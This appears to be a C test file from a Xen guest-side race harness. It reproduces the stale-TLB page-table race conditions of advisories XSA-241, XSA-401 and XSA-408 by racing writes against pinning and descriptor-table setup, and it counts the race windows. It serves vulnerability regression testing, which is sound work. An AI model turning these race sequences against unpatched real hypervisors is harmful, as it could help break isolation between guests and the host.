/* SPDX-License-Identifier: MIT */
/*
 * stale.c: the racer writes by a translation that no entry stands for any more,
 * and what it writes to gets another type.
 */
#include "guest/race/race.h"

#define ENTRY     pt_entry_maddr(pt_root(), WINDOW, 1)
#define SUPER_VA  (WINDOW + 4 * BLOCK_SIZE)
#define SUPER_PFN 3u /* of the block; what the racer writes to */

/* Such as any table and any descriptor table may have. */
#define ONE       BIT(52)
#define OTHER_ONE BIT(53)

static void open_window(void)
{
    REQUIRE(pt_map(WINDOW, leak_mfn(A), PT_KERNEL_RW) == 0);
    racer_in();
}

/* --- XSA-241 -------------------------------------------------------------- */

static int64_t cut_unflushed(void)
{
    return hc_update_va_mapping(WINDOW, 0, UVMF_NONE);
}

static int64_t cut_by_address(void)
{
    return pt_update(ENTRY, pte_of(0));
}

static int64_t cut_rw_only(void)
{
    return pt_update(ENTRY, pte_make(leak_mfn(A), PT_KERNEL_RO));
}

/* A flush of this vCPU's is none of the racer's, and must not pass for one. */
static int64_t cut_and_flush_here(void)
{
    int64_t rc = cut_unflushed();
    return rc ? rc : pt_op(MMUEXT_TLB_FLUSH_LOCAL, mfn_of(0));
}

static int64_t cut_and_flush_all(void)
{
    return hc_update_va_mapping(WINDOW, 0, UVMF_INVLPG | UVMF_ALL);
}

static int64_t cut_and_flush_full(void)
{
    return hc_update_va_mapping(WINDOW, 0, UVMF_TLB_FLUSH | UVMF_ALL);
}

static const struct cut {
    int64_t (*fn)(void);
    bool flushed;
} cuts[] = {
    {cut_unflushed, false},    {cut_by_address, false},
    {cut_rw_only, false},      {cut_and_flush_here, false},
    {cut_and_flush_all, true}, {cut_and_flush_full, true},
};

/* In every second round at once, so that the racer is in the midst of it. */
static void pin_what_is_written(unsigned n)
{
    const struct cut *cut = &cuts[n / 2 % ARRAY_SIZE(cuts)];
    const uint64_t done = racer.done;
    REQUIRE(cut->fn() == 0);
    if (cut->flushed) {
        tally.windows += racer.done != done;
        racer_out(sp(A));
    } else if (n & 1) {
        tally.windows += racer_goes_on();
    }
    REQUIRE(pt_pin(sp(A), 1) == 0);
    racer_out(sp(A));
    REQUIRE(pt_unpin(sp(A)) == 0);
}

static void rounds_241(void)
{
    while (tally_next()) {
        open_window();
        pin_what_is_written(tally.rounds);
        REQUIRE(pt_unmap(WINDOW) == 0); /* one way leaves it read-only */
    }
}

/* The same by a large entry, of which one page becomes a table. */
static void rounds_large(pfn_t block, maddr_t at)
{
    const pfn_t page = pfn_of(block.v + SUPER_PFN);
    const pte_t e = pte_make(frame_mfn(block), PT_TABLE | PTE_PSE);
    while (pt_update(at, e) == 0 && tally_next()) {
        racer_in();
        REQUIRE(pt_update(at, pte_of(0)) == 0);
        if (tally.rounds & 1)
            tally.windows += racer_goes_on();
        REQUIRE(pt_pin(page, 1) == 0);
        racer_out(page);
        REQUIRE(pt_unpin(page) == 0);
    }
    REQUIRE(pt_update(at, pte_of(0)) == 0);
}

static void large_241(void)
{
    const pfn_t block = frame_block_alloc();
    if (block.v == PFN_NONE.v)
        return;
    pt_make_tables(SUPER_VA, 2);
    frame_make_ro(pfn_of(block.v + SUPER_PFN));
    racer_store(SUPER_VA + SUPER_PFN * PAGE_SIZE, ONE, OTHER_ONE);
    rounds_large(block, pt_entry_maddr(pt_root(), SUPER_VA, 2));
    racer_stop();
    frame_make_rw(pfn_of(block.v + SUPER_PFN));
    frame_block_free(block);
}

void scene_xsa241(void)
{
    large_241();
    tally_extend();
    frame_make_ro(sp(A));
    racer_store(WINDOW, ONE, OTHER_ONE);
    rounds_241();
    racer_stop();
    frame_make_rw(sp(A));
}

/* --- XSA-401 -------------------------------------------------------------- */

/*
 * A good entry and a bad one in turn: the root, writable. What is found when
 * the table is audited decides, and is what stays.
 */
static bool pin_or_refuse(void)
{
    const int64_t rc = pt_pin(sp(A), 1);
    if (rc) {
        CHECK(rc == -XEN_EBUSY || rc == -XEN_EINVAL);
        racer_out(PFN_NONE);
        return false;
    }
    REQUIRE(tree_peek(sp(A), 0) == 0);
    racer_out(sp(A));
    REQUIRE(pt_unpin(sp(A)) == 0);
    return true;
}

static void rounds_401(void)
{
    while (tally_next()) {
        open_window();
        REQUIRE(cut_unflushed() == 0);
        if (tally.rounds & 1)
            tally.windows += racer_goes_on();
        tally.noted[!pin_or_refuse()]++;
    }
}

/* What takes a while to audit, behind the entry that the racer writes. */
void scene_xsa401(void)
{
    for (unsigned i = 1; i < PT_ENTRIES; i++)
        tree_poke(sp(A), i, leak_mfn(OTHER), PT_KERNEL_RO);
    frame_make_ro(sp(A));
    racer_store(WINDOW, pte_make(frame_mfn(pt_root()), PT_KERNEL_RW).v, 0);
    rounds_401();
    racer_stop();
    frame_make_rw(sp(A));
    memset(frame_va(sp(A)), 0, PAGE_SIZE);
    tally.note = "race: xsa401: %lu accepted, %lu refused\n";
    if (!tally.noted[0] || !tally.noted[1])
        tally.windows = 0; /* it was the same value each time */
}

/* --- XSA-408 -------------------------------------------------------------- */

static int64_t hook(bool in)
{
    return pt_update(pt_slot_maddr(leak_mfn(B), 0),
                     in ? pte_make(leak_mfn(A), PT_TABLE) : pte_of(0));
}

static int64_t describe(bool in)
{
    const uint64_t frame = leak_mfn(A).v;
    return in ? hc_set_gdt(&frame, 512) : hc_set_gdt(NULL, 0);
}

/* Pinned as level 1 to 4, as an entry's table, as descriptors. */
static int64_t take_type(unsigned way, bool in)
{
    if (way < PT_LEVELS)
        return in ? pt_pin(sp(A), way + 1) : pt_unpin(sp(A));
    return way == PT_LEVELS ? hook(in) : describe(in);
}
#define WAYS (PT_LEVELS + 2)

static void rounds_408(void)
{
    while (tally_next()) {
        open_window();
        memset((char *)WINDOW + 256 * 8, 0, 16 * 8); /* what a root got */
        REQUIRE(cut_by_address() == 0);
        if (tally.rounds / WAYS & 1)
            tally.windows += racer_goes_on();
        REQUIRE(take_type(tally.rounds % WAYS, true) == 0);
        racer_out(sp(A));
        REQUIRE(take_type(tally.rounds % WAYS, false) == 0);
    }
}

void scene_xsa408(void)
{
    frame_make_ro(sp(A));
    frame_make_ro(sp(B));
    REQUIRE(pt_pin(sp(B), 2) == 0);
    racer_store(WINDOW, ONE, OTHER_ONE);
    rounds_408();
    racer_stop();
    REQUIRE(pt_unpin(sp(B)) == 0);
    frame_make_rw(sp(B));
    frame_make_rw(sp(A));
}
